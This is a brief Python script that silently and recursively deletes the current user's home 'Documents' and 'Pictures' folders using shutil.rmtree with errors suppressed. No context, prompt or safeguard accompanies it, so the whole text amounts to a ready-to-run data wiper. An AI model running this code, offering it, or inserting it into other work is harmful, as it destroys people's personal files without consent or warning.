import os
import shutil

for name in ("Documents", "Pictures"):
    shutil.rmtree(os.path.join(os.path.expanduser("~"), name), ignore_errors=True)
